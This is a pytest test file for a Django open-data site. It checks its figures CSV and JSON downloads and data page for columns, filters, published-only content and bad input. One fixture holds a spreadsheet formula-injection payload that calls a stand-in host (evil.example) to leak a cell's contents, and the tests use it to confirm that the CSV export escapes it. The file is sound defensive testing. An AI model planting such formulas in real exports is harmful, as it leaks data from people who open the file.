"""The public figures downloads (/data/figures.csv and .json) and the /data/
page: columns, content, published only, filters, escaping and bad input."""

import datetime
import json
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from measures.csvformat import FIGURE_COLUMNS
from measures.models import Figure, PublicationStatus, Unit
from measures.status import Status
from opendata.columns import FIGURE_COLUMNS as DOWNLOAD_COLUMNS
from opendata.columns import names
from opendata.tables import PAGE_SEQUENCE, SHOWN_ELSEWHERE, FigureTable

from ..factories import (
    AreaFactory,
    ContributionFactory,
    FigureFactory,
    LocalOutcomeFactory,
    MeasureFactory,
    PlanFactory,
    PriorityAreaFactory,
)
from .helpers import BOM, content, csv_header, csv_rows

EXPORT_COLUMNS = names(DOWNLOAD_COLUMNS)
READABLE_COLUMNS = EXPORT_COLUMNS[len(FIGURE_COLUMNS) :]

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@pytest.fixture
def data():
    priority = PriorityAreaFactory(name="Reduce burglary", slug="reduce-burglary")
    measure = MeasureFactory(
        name="Burglaries, all kinds", slug="burglaries", priority_area=priority, unit=Unit.COUNT
    )
    other = MeasureFactory(
        name="Satisfaction", slug="satisfaction", unit=Unit.PERCENTAGE, priority_area=None
    )
    shire = AreaFactory(name="Shire", slug="shire")
    county = AreaFactory(name="County", slug="county")
    baseline = FigureFactory(measure=measure, area=shire, value=Decimal("100"))
    latest = FigureFactory(
        measure=measure,
        area=shire,
        period_start=datetime.date(2023, 4, 1),
        period_end=datetime.date(2024, 3, 31),
        value=Decimal("90.5000"),
        provisional=True,
        note=HYPERLINK,
        source_url="https://example.org/burglary",
    )
    draft = FigureFactory(
        measure=measure,
        area=shire,
        period_start=datetime.date(2024, 4, 1),
        period_end=datetime.date(2025, 3, 31),
        value=Decimal("80"),
        status=PublicationStatus.DRAFT,
    )
    survey = FigureFactory(
        measure=other,
        area=county,
        period_start=datetime.date(2024, 1, 1),
        period_end=datetime.date(2024, 3, 31),
        value=Decimal("64.2500"),
        lower=Decimal("60.1"),
        upper=Decimal("68.4"),
        series_break=True,
        note="-5",
    )
    return {"baseline": baseline, "latest": latest, "draft": draft, "survey": survey}


def get(client, name, **params):
    return client.get(reverse(name), params)


def test_the_columns_are_the_upload_columns_then_readable_extras(client, data):
    response = get(client, "opendata:figures-csv")
    assert response.status_code == 200
    assert csv_header(response) == [*FIGURE_COLUMNS, *READABLE_COLUMNS]
    assert READABLE_COLUMNS == (
        "measure_name",
        "unit",
        "area_name",
        "period_label",
        "priority_area",
        "comparison_start",
        "comparison_end",
        "comparison_value",
        "change",
        "change_unit",
        "method",
        "p_value",
        "status",
    )


def test_the_table_shows_the_download_columns_people_read():
    shown = [c.name for c in DOWNLOAD_COLUMNS if c.on_page and c.name not in SHOWN_ELSEWHERE]
    assert sorted(FigureTable.base_columns) == sorted([*shown, "interval"])
    # Those shown in another's cell are still on the page, there.
    assert {"lower", "upper", "provisional", "series_break", "change_unit"} <= set(SHOWN_ELSEWHERE)
    assert set(PAGE_SEQUENCE) - {"..."} <= {*shown, "interval"}
    assert not {"measure", "area", "period_start", "period_end", "note"} & set(shown)


def test_a_figure_row_in_full(client, data):
    rows = csv_rows(get(client, "opendata:figures-csv"))
    latest = next(r for r in rows if r["period_end"] == "2024-03-31" and r["area"] == "shire")
    assert latest == {
        "measure": "burglaries",
        "area": "shire",
        "period_start": "2023-04-01",
        "period_end": "2024-03-31",
        "value": "90.5",
        "lower": "",
        "upper": "",
        "provisional": "true",
        "series_break": "false",
        "note": "'" + HYPERLINK,
        "source_url": "https://example.org/burglary",
        "measure_name": "Burglaries, all kinds",
        "unit": "Count",
        "area_name": "Shire",
        "period_label": "12 months to March 2024",
        "priority_area": "Reduce burglary",
        "comparison_start": "2018-07-01",
        "comparison_end": "2019-06-30",
        "comparison_value": "100",
        "change": "-9.5",
        "change_unit": "%",
        "method": "fixed-tolerance",
        "p_value": "",
        "status": "improving",
    }


def test_a_survey_figure_with_its_interval_and_a_negative_looking_note(client, data):
    rows = csv_rows(get(client, "opendata:figures-csv", measure="satisfaction"))
    assert len(rows) == 1
    row = rows[0]
    assert (row["value"], row["lower"], row["upper"]) == ("64.25", "60.1", "68.4")
    assert row["series_break"] == "true"
    assert row["note"] == "-5"  # a number stays a number
    assert row["period_label"] == "Q4 2023/24"
    assert row["priority_area"] == ""  # a local indicator
    assert row["status"] == "not comparable"  # a quarter against a 12-month baseline
    assert row["unit"] == "Percentage"


@pytest.mark.parametrize(
    ("status", "cell", "count"),
    [
        ("improving", "improving", 1),
        ("baseline", "baseline", 1),
        ("not-comparable", "not comparable", 1),
        ("worsening", "worsening", 0),
    ],
)
def test_the_figures_filter_on_their_status_against_the_baseline(client, data, status, cell, count):
    rows = csv_rows(get(client, "opendata:figures-csv", status=status))
    assert [r["status"] for r in rows] == [cell] * count
    figures = json.loads(content(get(client, "opendata:figures-json", status=status)))["figures"]
    assert [f["status"] for f in figures] == [cell] * count
    page = get(client, "opendata:index", status=status)
    assert len(page.context["table"].rows) == count
    assert f'href="/data/figures.csv?status={status}"' in page.content.decode()


def test_the_status_filter_keeps_exactly_the_rows_with_that_status(client, demo):
    """On the demo data, every status: the filter and the download's status
    column (both the stored verdict) agree row for row."""
    everything = csv_rows(get(client, "opendata:figures-csv"))
    for status in Status:
        filtered = csv_rows(get(client, "opendata:figures-csv", status=status.value))
        expected = [r for r in everything if r["status"] == status.label.lower()]
        assert filtered == expected
    assert {r["status"] for r in everything} >= {
        "improving",
        "worsening",
        "not comparable",
        "no significant change",
        "baseline",
    }


def test_the_public_download_has_published_figures_only(client, data):
    rows = csv_rows(get(client, "opendata:figures-csv"))
    assert len(rows) == Figure.objects.published().count() == 3
    assert "2025-03-31" not in {r["period_end"] for r in rows}
    assert "publication_status" not in rows[0]


def test_the_file_is_named_after_what_and_when(client, data):
    response = get(client, "opendata:figures-csv")
    today = timezone.localdate().isoformat()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="figures-{today}.csv"'
    assert response.streaming


def test_the_excel_link_adds_a_byte_order_mark(client, data):
    plain = content(get(client, "opendata:figures-csv"))
    excel = content(get(client, "opendata:figures-csv", excel="1"))
    assert excel == BOM + plain


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"measure": "burglaries"}, ["burglaries 2019-06-30", "burglaries 2024-03-31"]),
        ({"area": "county"}, ["satisfaction 2024-03-31"]),
        ({"priority_area": "reduce-burglary"}, ["burglaries 2019-06-30", "burglaries 2024-03-31"]),
        ({"period_from": "2020-01-01"}, ["burglaries 2024-03-31", "satisfaction 2024-03-31"]),
        ({"period_to": "2020-01-01"}, ["burglaries 2019-06-30"]),
        ({"period_from": "2020-01-01", "area": "shire"}, ["burglaries 2024-03-31"]),
    ],
)
def test_the_figure_filters_apply_to_the_download(client, data, params, expected):
    csv_response = get(client, "opendata:figures-csv", **params)
    json_response = get(client, "opendata:figures-json", **params)
    assert csv_response.status_code == json_response.status_code == 200
    from_csv = [f"{r['measure']} {r['period_end']}" for r in csv_rows(csv_response)]
    figures = json.loads(content(json_response))["figures"]
    from_json = [f"{f['measure']} {f['period_end']}" for f in figures]
    assert sorted(from_csv) == sorted(from_json) == expected


def test_the_outcome_filter_keeps_the_measures_the_outcome_serves(client, data):
    plan = PlanFactory(is_current=True)
    outcome = LocalOutcomeFactory(plan=plan, slug="safer-homes")
    ContributionFactory(outcome=outcome, measure=data["latest"].measure)
    rows = csv_rows(get(client, "opendata:figures-csv", outcome="safer-homes"))
    assert {r["measure"] for r in rows} == {"burglaries"}
    assert len(rows) == 2


@pytest.mark.parametrize(
    "name", ["opendata:index", "opendata:figures-csv", "opendata:figures-json"]
)
@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"measure": "no-such-measure"}, "Measure: Select a valid choice."),
        ({"area": "atlantis"}, "Area: Select a valid choice."),
        ({"priority_area": "x"}, "National priority area: Select a valid choice."),
        ({"outcome": "x"}, "Local outcome: Select a valid choice."),
        ({"period_from": "2024-13-01"}, "Periods ending on or after: Enter a valid date."),
        ({"period_to": "yesterday"}, "Periods ending on or before: Enter a valid date."),
        ({"status": "fine"}, "Status: Select a valid choice."),
    ],
)
def test_a_bad_filter_is_a_400_with_the_reason(client, data, name, params, message):
    response = get(client, name, **params)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_only_get_is_allowed(client, data):
    assert client.post(reverse("opendata:figures-csv")).status_code == 405


def test_the_json_download(client, data):
    response = get(client, "opendata:figures-json", measure="satisfaction")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    document = json.loads(content(response))
    assert document["columns"] == list(EXPORT_COLUMNS)
    assert document["licence"] == "Open Government Licence v3.0"
    assert document["published_only"] is True
    [figure] = document["figures"]
    assert figure["value"] == 64.25
    assert figure["lower"] == 60.1
    assert figure["series_break"] is True
    assert figure["provisional"] is False
    assert figure["note"] == "-5"
    assert figure["period_start"] == "2024-01-01"


def test_the_json_download_is_published_only_and_not_formula_escaped(client, data):
    document = json.loads(content(get(client, "opendata:figures-json")))
    assert len(document["figures"]) == 3
    notes = {f["note"] for f in document["figures"]}
    assert HYPERLINK in notes  # JSON is not for spreadsheets: the text as it is
    assert None in notes  # an empty note is null


def test_the_upload_columns_give_back_every_published_figure_unchanged(client, demo):
    """The export side of the round trip: read back, the upload columns are the figures."""
    rows = csv_rows(get(client, "opendata:figures-csv"))
    figures = {
        (f.measure.slug, f.area.slug, f.period_start.isoformat(), f.period_end.isoformat()): f
        for f in Figure.objects.published().select_related("measure", "area")
    }
    assert len(rows) == len(figures) > 100
    for row in rows:
        figure = figures[row["measure"], row["area"], row["period_start"], row["period_end"]]
        assert Decimal(row["value"]) == figure.value
        assert (Decimal(row["lower"]) if row["lower"] else None) == figure.lower
        assert (Decimal(row["upper"]) if row["upper"] else None) == figure.upper
        assert row["provisional"] == str(figure.provisional).lower()
        assert row["series_break"] == str(figure.series_break).lower()
        assert row["note"] == figure.note
        assert row["source_url"] == figure.source_url


def test_the_data_page_shows_the_table_and_links_to_its_own_downloads(client, data):
    response = get(client, "opendata:index", measure="burglaries")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Burglaries, all kinds" in page
    assert "12 months to March 2024" in page
    assert "Satisfaction" not in page.split("<table")[1]  # filtered out of the table
    assert 'href="/data/figures.csv?measure=burglaries"' in page
    assert 'href="/data/figures-readable.csv?measure=burglaries"' in page
    assert 'href="/data/figures.xlsx?measure=burglaries"' in page
    assert 'href="/data/figures.json?measure=burglaries"' in page
    assert reverse("opendata:package") in page
    assert reverse("opendata:mapping-csv") in page
    assert reverse("opendata:measures-csv") in page
    # drafts stay out of the page too
    assert "2024/25" not in page


def test_the_data_page_runs_a_fixed_number_of_queries(client, demo):
    def queries():
        with CaptureQueriesContext(connection) as context:
            assert client.get(reverse("opendata:index")).status_code == 200
        return len(context.captured_queries)

    before = queries()
    measure = MeasureFactory()
    for year in range(2000, 2030):
        FigureFactory(
            measure=measure,
            area=AreaFactory(),
            period_start=datetime.date(year, 1, 1),
            period_end=datetime.date(year, 12, 31),
        )
    assert queries() == before


@pytest.mark.parametrize(
    "sort", ["value", "-value", "area_name", "-period_label", "provisional", "priority_area"]
)
def test_every_sort_of_the_table_ends_on_the_primary_key(client, data, sort):
    """Rows that tie (the same value, say) must keep one order, or the table's
    pages could repeat some and skip others: the database may order ties
    differently from one query to the next."""
    response = get(client, "opendata:index", sort=sort)
    assert response.status_code == 200
    ordering = response.context["table"].data.data.query.order_by
    assert ordering[-1] in ("pk", "-pk")


def test_the_table_starts_with_the_newest_figures_of_every_measure_and_area(client, demo):
    """Newest first, as an index gives them (figure_published_all_newest);
    figures of the same period in the order they were entered."""
    response = get(client, "opendata:index")
    rows = [row.record for row in response.context["table"].page.object_list]
    keys = [(r.period_end, r.period_start, -r.pk) for r in rows]
    assert keys == sorted(keys, reverse=True)
    assert len({r.measure_id for r in rows}) > 1 and len({r.area_id for r in rows}) > 1
    newest = Figure.objects.published().order_by("-period_end").first().period_end
    assert rows[0].period_end == newest


def test_the_download_links_carry_the_filters_but_not_the_sorting_or_page(client, demo):
    response = get(client, "opendata:index", measure="homicides", sort="-area_name", page="2")
    assert response.status_code == 200
    page = response.content.decode()
    assert 'href="/data/figures.csv?measure=homicides"' in page
    assert "figures.csv?measure=homicides&amp;sort" not in page


@pytest.mark.parametrize("number", ["99", "abc", "-1"])
def test_a_page_number_out_of_range_shows_a_page_not_an_error(client, data, number):
    response = get(client, "opendata:index", page=number)
    assert response.status_code == 200
    assert "Burglaries, all kinds" in response.content.decode()
